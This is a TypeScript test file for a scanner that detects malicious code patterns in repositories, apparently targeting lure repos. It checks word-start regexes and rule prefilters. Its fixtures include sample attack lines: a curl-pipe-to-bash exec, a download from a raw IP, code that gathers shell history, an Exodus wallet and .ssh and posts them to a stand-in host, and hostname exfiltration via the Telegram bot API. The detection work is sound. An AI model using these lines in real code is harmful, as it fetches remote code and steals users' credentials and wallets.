import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { atWordStart } from './hints.js';
import { prefilterMatches, type AnyRule } from '../../core/rule.js';
import { analyzeFile } from '../../engine/analyze-file.js';
import curlPipe from '../../rules/persistence/curl-pipe-shell-in-code.js';
import c2 from '../../rules/exfiltration/c2-endpoint.js';
import secondStage from '../../rules/exfiltration/second-stage-download.js';
import walletFiles from '../../rules/stealing/wallet-and-key-files.js';
import webhook from '../../rules/exfiltration/webhook-exfil.js';

describe('atWordStart', () => {
  const re = atWordStart('curl|irm|pdown', 'i');
  it('matches a word that starts a word of the string value', () => {
    for (const s of ['curl x', '"curl', "'/pdown'", '`${u}curl', '\\curl', '$curl', 'a /pdown', 'iwr x|iex;irm x']) assert.equal(re.test(s), true, s);
  });
  it('matches after an escape whose last character is a letter or digit (one character of the value)', () => {
    for (const s of ['"\\ncurl', '"\\tirm', '"\\0curl', '"\\x20curl', '"\\u000acurl', '"\\u0020pdown', '"\\\\tirm']) assert.equal(re.test(s), true, s);
  });
  it('does not match inside a word', () => {
    for (const s of ['confirm()', 'docUrl', 'dropdown', 'x_curl', 'a1irm', 'topdown']) assert.equal(re.test(s), false, s);
  });
});

// Bundle words that used to send a UI file to the parser for these rules (measured on the lure repos' vendored
// TradingView and React bundles): each rule's second prefilter condition must now reject them.
describe('second prefilter conditions reject bundle words', () => {
  const cases: Array<[AnyRule, string]> = [
    [curlPipe, 'if (confirm("Close?")) close(); const docUrl = base + "/docs"; viewGet(x);'],
    [c2, 'const cls = "tv-dropdown"; el.classList.add(cls, "topdown");'],
    [secondStage, 'const cls = "tv-dropdown"; fs.readFile(p, cb);'],
    [walletFiles, 'const d = chart.getData(); this._history.push(seed); const phrase = t("Seed phrase");'],
    [webhook, 'const links = { discord: "https://discord.gg/xyz", telegram: "https://t.me/xyz" }; // Join our Telegram'],
  ];
  for (const [rule, text] of cases) {
    it(rule.id, () => assert.equal(prefilterMatches(rule.prefilter, text), false));
  }
});

// Shapes where the word follows an escape or a string piece in the source: the prefilter must still pass and the rule
// still report.
describe('escape and concatenation shapes still reach the rules', () => {
  const cases: Array<[AnyRule, string, string]> = [
    [curlPipe, 'lib/a.js', "require('child_process').exec('cd /tmp\\ncurl -s https://x.example.net/s | bash');\n"],
    [c2, 'lib/b.js', "const axios = require('axios');\naxios.get('http://95.164.17.24:1224' + '/pdown');\n"],
    [walletFiles, 'lib/c.js', "const os = require('os'); const p = require('path'); const axios = require('axios');\nconst h = os.homedir();\nconst files = [p.join(h, '.zsh' + '_history'), p.join(h, 'Library/Application Support/Exodus/exodus.wallet'), p.join(h, '.ssh')];\naxios.post('https://x.example.net/u', files);\n"],
    [webhook, 'lib/d.js', "const os = require('os');\nfetch('https://api.' + 'telegram' + '.org/bot123:abc/sendMessage?text=' + os.hostname());\n"],
  ];
  for (const [rule, file, code] of cases) {
    it(rule.id, () => {
      assert.equal(prefilterMatches(rule.prefilter, code), true);
      const r = analyzeFile(file, new TextEncoder().encode(code), [rule]);
      assert.deepEqual(r.errors, []);
      assert.ok(r.findings.some((f) => f.ruleId === rule.id), `no ${rule.id} finding`);
    });
  }
});
